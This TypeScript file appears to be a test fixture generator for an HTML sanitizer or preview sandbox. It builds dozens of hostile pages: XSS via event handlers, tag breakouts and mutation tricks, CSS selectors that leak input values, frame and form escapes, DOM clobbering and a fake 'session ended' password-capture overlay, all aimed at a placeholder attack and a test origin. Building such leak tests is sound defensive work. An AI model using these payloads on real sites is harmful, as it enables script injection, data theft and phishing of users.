/** HTML that attacks without waiting for permission: elements, attributes, styles. */
import { ATTACK, DATA_PAGE, type Files, SCRIPT_LINK } from './aims';

/** `origin` is where every request would be a leak. */
export function hostilePages(origin: string): Files {
  return {
    'html/handlers.html': `<img src="x" onerror="${ATTACK}"><svg onload="${ATTACK}"></svg><body onload="${ATTACK}"><details open ontoggle="${ATTACK}">x</details>`,
    'html/rare_handlers.html': `<style>@keyframes k { to { color: red } } p { animation: k 1ms; transition: color 1ms }</style><p onanimationstart="${ATTACK}" onanimationend="${ATTACK}" ontransitionend="${ATTACK}">x</p><input autofocus onfocus="${ATTACK}"><marquee onstart="${ATTACK}">x</marquee><video><source onerror="${ATTACK}" src="x"></video><body onpageshow="${ATTACK}" onresize="${ATTACK}"><button popovertarget="p" onbeforetoggle="${ATTACK}">x</button><div oncontentvisibilityautostatechange="${ATTACK}" style="content-visibility: auto">x</div>`,
    'html/breakout.html': `"></iframe></body></html><script>${ATTACK}</script>&quot;&gt;<script>${ATTACK}</script>'></iframe>`,
    'html/comment.html': `<!--><script>${ATTACK}</script>--!><script>${ATTACK}</script></textarea></title></style></noscript></xmp><script>${ATTACK}</script><!--`,
    'html/plaintext.html': `<plaintext></iframe><script>${ATTACK}</script>`,
    'html/frames.html': `<iframe srcdoc="<script>${ATTACK}</script>"></iframe><iframe src="${origin}/frame"></iframe><iframe src="${SCRIPT_LINK}"></iframe><iframe src="${DATA_PAGE}"></iframe>`,
    'html/wider_sandbox.html': `<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation allow-popups allow-forms allow-downloads" allow="camera *; clipboard-read *" srcdoc="<script>${ATTACK}; top.location='${origin}/wider'</script>"></iframe>`,
    'html/frameset.html': `<frameset cols="*,*"><frame src="${origin}/frameset"><frame src="${SCRIPT_LINK}"></frameset>`,
    'html/other_frames.html': `<portal src="${origin}/portal"></portal><fencedframe src="${origin}/fenced"></fencedframe><iframe loading="lazy" src="${origin}/lazy"></iframe><iframe credentialless src="${origin}/credentialless"></iframe><iframe csp="default-src *" src="${origin}/csp"></iframe>`,
    'html/refresh.html': `<meta http-equiv="refresh" content="0;url=${origin}/refresh"><p>text</p>`,
    'html/refresh_to_script.html': `<meta http-equiv="refresh" content="0;url=${SCRIPT_LINK}"><meta http-equiv="refresh" content="0;url=${DATA_PAGE}"><p>text</p>`,
    'html/base.html': `<base href="${origin}/" target="_top"><img src="base.png"><script src="base.js"></script><link rel="stylesheet" href="base.css">`,
    'html/own_server.html': `<img src="/logout?canary"><img src="lab/api/canary"><form id="f" method="post" action="/api/shutdown?canary"></form><script src="/static/canary.js"></script><link rel="stylesheet" href="/mlops/api/runs?canary">`,
    'html/form.html': `<form id="f" action="${origin}/form" target="_top"><input name="a" value="1"></form><script>f.submit(); f.requestSubmit()</script>`,
    'html/form_buttons.html': `<form id="f" action="${SCRIPT_LINK}"><input type="image" src="${origin}/input.png"><button id="b" formaction="${origin}/formaction" formtarget="_blank">x</button></form><isindex action="${origin}/isindex"><script>b.click()</script>`,
    'html/objects.html': `<object data="${origin}/object"></object><embed src="${origin}/embed"><applet code="x" codebase="${origin}/applet"></applet><object data="${DATA_PAGE}"></object><embed src="${SCRIPT_LINK}"><object type="image/svg+xml" data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${ATTACK}'/>"></object>`,
    'html/link_loads.html': `<link rel="stylesheet" href="${origin}/link.css"><link rel="alternate stylesheet" href="${origin}/alternate.css"><link rel="icon" href="${origin}/icon"><link rel="manifest" href="${origin}/manifest"><link rel="import" href="${origin}/import"><link rel="expect" href="${origin}/expect">`,
    'html/link_preload.html': `<link rel="preload" as="script" href="${origin}/preload.js"><link rel="preload" as="image" imagesrcset="${origin}/preload.png"><link rel="preload" as="font" crossorigin href="${origin}/preload.woff2"><link rel="preload" as="fetch" href="${origin}/preload"><link rel="modulepreload" href="${origin}/module.js">`,
    'html/link_prefetch.html': `<link rel="prefetch" href="${origin}/prefetch"><link rel="prerender" href="${origin}/prerender"><link rel="next" href="${origin}/next"><link rel="dns-prefetch" href="${origin}"><script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["${origin}/speculation"]}], "prerender": [{"source": "list", "urls": ["${origin}/prerendered"]}]}</script>`,
    'html/link_preconnect.html': `<link rel="preconnect" href="${origin}"><link rel="preconnect" crossorigin href="${origin}"><svg><link xmlns="http://www.w3.org/1999/xhtml" rel="preconnect" href="${origin}"/></svg><p>text</p>`,
    'html/style_loads.html': `<style>@import url(${origin}/import.css); @import "${origin}/import2.css" layer(a); body { background: url(${origin}/background.png); cursor: url(${origin}/cursor.cur), auto } li { list-style: url(${origin}/list.png) } p { border-image: url(${origin}/border.png) 1; mask: url(${origin}/mask.svg#m); filter: url(${origin}/filter.svg#f); clip-path: url(${origin}/clip.svg#c); shape-outside: url(${origin}/shape.png); float: left } p::before { content: url(${origin}/content.png) } h1 { background: image-set(url(${origin}/set.png) 1x); }</style><ul><li>x</li></ul><p>x</p><h1>x</h1>`,
    'html/style_fonts.html': `<style>@font-face { font-family: leak; src: url(${origin}/font.woff2) } @font-face { font-family: leak; src: url(${origin}/a.woff2); unicode-range: U+0061 } p { font-family: leak }</style><p>abc</p>`,
    'html/style_reads.html': `<style>input[value^="s"] { background: url(${origin}/starts-with-s) } input:placeholder-shown { background: url(${origin}/empty) } :has([value$="t"]) { background: url(${origin}/ends-with-t) } a:visited { background: url(${origin}/visited) } @media (prefers-color-scheme: light) { body { background: url(${origin}/light) } } @property --x { syntax: "<url>"; inherits: false; initial-value: url(${origin}/property) }</style><input value="secret"><input placeholder="x"><a href="/lab">x</a>`,
    'html/style_attributes.html': `<div style="background: u\\72 l(${origin}/escaped.png)">x</div><div style="background-image: -webkit-image-set(url(${origin}/webkit.png) 1x)">x</div><div style="behavior: url(${origin}/htc); -moz-binding: url(${origin}/xbl); width: expression(${ATTACK})">x</div><table background="${origin}/table.png"><td background="${origin}/cell.png">x</td></table><body background="${origin}/body.png">`,
    'html/media.html': `<img src="${origin}/a.png" srcset="${origin}/b.png 2x" lowsrc="${origin}/low.png" dynsrc="${origin}/dyn.avi"><picture><source srcset="${origin}/source.webp"><img src="${origin}/picture.png"></picture><video src="${origin}/c.mp4" poster="${origin}/d.png" autoplay muted><track default src="${origin}/track.vtt"></video><audio src="${origin}/e.mp3" autoplay><source src="${origin}/source.mp3"></audio><bgsound src="${origin}/bg.mid"><image src="${origin}/image.png">`,
    'html/attribution.html': `<img attributionsrc="${origin}/attribution" src="x"><a id="a" attributionsrc="${origin}/click" href="#x">x</a><script attributionsrc="${origin}/script"></script><img browsingtopics src="${origin}/topics">`,
    'html/ping.html': `<a id="a" href="#here" ping="${origin}/ping">text</a><map name="m"><area id="b" shape="default" href="#x" ping="${origin}/area"></map><img usemap="#m" src="x"><script>a.click(); b.click()</script>`,
    'html/links.html': `<a id="a" href="${SCRIPT_LINK}">1</a><a id="b" href="${DATA_PAGE}" target="_top">2</a><a id="c" href="vbscript:MsgBox(1)">3</a><a id="d" href="${origin}/link" target="_top">4</a><a id="e" href="${origin}/parent" target="_parent">5</a><script>for (const link of document.links) link.click()</script>`,
    'html/svg_inside.html': `<svg><script href="${origin}/svg.js"></script><script>${ATTACK}</script><image href="${origin}/image.png"/><use href="${origin}/use.svg#x"/><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${ATTACK}'/></svg>#x"/><filter id="f"><feImage href="${origin}/fe.png"/></filter><rect filter="url(#f)" width="9" height="9"/><foreignObject><iframe src="${origin}/foreign"></iframe></foreignObject></svg>`,
    'html/svg_animated.html': `<svg><a id="a"><animate attributeName="href" values="${SCRIPT_LINK}"/><text y="9">x</text></a><set attributeName="onload" to="${ATTACK}"/><animate onbegin="${ATTACK}" attributeName="x" dur="1s"/><image><animate attributeName="href" values="${origin}/animated.png" dur="1s"/></image></svg>`,
    'html/mathml.html': `<math href="${SCRIPT_LINK}"><maction actiontype="statusline" href="${SCRIPT_LINK}">x</maction><mglyph src="${origin}/glyph.png"></mglyph></math><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${ATTACK.replaceAll(' ', '')}&gt;">`,
    'html/mutation.html': `<noscript><p title="</noscript><img src=x onerror='${ATTACK}'>"></noscript><svg></p><style><a id="</style><img src=x onerror='${ATTACK}'>"></a></svg><form><math><mtext></form><form><mglyph><style></math><img src=x onerror='${ATTACK}'>`,
    'html/template.html': `<template><script>${ATTACK}</script><img src="${origin}/template.png"></template><div><template shadowrootmode="open"><script>${ATTACK}</script><img src="${origin}/shadow.png" onerror="${ATTACK}"><style>:host { background: url(${origin}/host.png) }</style></template></div>`,
    'html/clobbering.html': `<form id="parent" name="top"><input name="canary"></form><img name="frameElement"><a id="location" href="${origin}/a"></a><iframe name="top" srcdoc="x"></iframe><object id="document"></object><form id="body"><input name="ownerDocument"></form>`,
    'html/policy.html': `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'; report-uri ${origin}/report; img-src *"><meta http-equiv="Content-Security-Policy-Report-Only" content="default-src 'none'; report-uri ${origin}/only"><meta name="referrer" content="unsafe-url"><img src="${origin}/policy.png"><script>${ATTACK}</script>`,
    'html/old_metas.html': `<meta http-equiv="set-cookie" content="canary=1"><meta http-equiv="x-dns-prefetch-control" content="on"><html manifest="${origin}/appcache"><meta http-equiv="Link" content="<${origin}/header>; rel=preload"><a href="${origin}/hint">x</a><xml id="x" src="${origin}/island"></xml>`,
    'html/document_in_document.html': `</body></html><!DOCTYPE html><html><head><meta charset="utf-7"><base href="${origin}/"><script>${ATTACK}</script></head><body onload="${ATTACK}"><img src="second.png">+ADw-script+AD4-${ATTACK}+ADw-/script+AD4-`,
    'html/overlay.html': `<dialog open style="position: fixed; inset: 0; z-index: 2147483647; width: 300vw; height: 300vh">Your session ended. <form action="${origin}/login"><input type="password" name="token" autofocus></form></dialog><div popover="manual" id="p">x</div>`,
    'html/deep.html': `${'<div><b>'.repeat(4000)}<script>${ATTACK}</script>`,
    'html/one_line.html': `<p>${'x'.repeat(400_000)}</p><script>${ATTACK}</script>`,
    'html/cut_tag.html': `<p>text</p><img alt="x" onerror="${ATTACK}" src="${origin}/cut.png`
  };
}

/** Pages that end or swallow what would come after them. */
const LAST = /frameset|breakout|comment|plaintext|mutation|document|deep|line|cut/;

/** All other pages in one, for what they would do if scripts were allowed. */
export function everything(pages: Files): Files {
  return {
    'html/everything.html': Object.keys(pages)
      .filter(name => !LAST.test(name))
      .map(name => String(pages[name]))
      .join('\n')
  };
}
